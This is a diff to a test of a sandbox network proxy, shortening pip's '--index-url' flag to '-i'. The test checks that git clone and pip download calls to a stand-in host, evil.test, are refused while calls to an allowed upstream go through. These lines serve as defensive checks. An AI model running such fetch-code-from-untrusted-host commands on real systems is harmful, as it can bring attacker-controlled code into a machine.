@@ -149,10 +149,10 @@ async def test_git_and_pip_use_the_proxy(sandbox: Box, web: Upstream) -> None:
     assert "403" in await sandbox.out("git clone https://evil.test/x.git")
     text = await sandbox.out(f"git clone http://up.test:{web.port}/x.git")
     assert web.asked[-1].target == b"/x.git/info/refs?service=git-upload-pack", text
-    index = f"--index-url http://up.test:{web.port}/simple --trusted-host up.test"
+    index = f"-i http://up.test:{web.port}/simple --trusted-host up.test"
     await sandbox.out(f"{PYTHON} -m pip download {index} --no-deps nothing")
     assert web.asked[-1].target == b"/simple/nothing/"
-    await sandbox.out(f"{PYTHON} -m pip download --retries 0 --index-url https://evil.test/simple nothing")
+    await sandbox.out(f"{PYTHON} -m pip download --retries 0 -i https://evil.test/simple nothing")
     assert sandbox.refusals()[-1].subject == "evil.test:443"
 
 
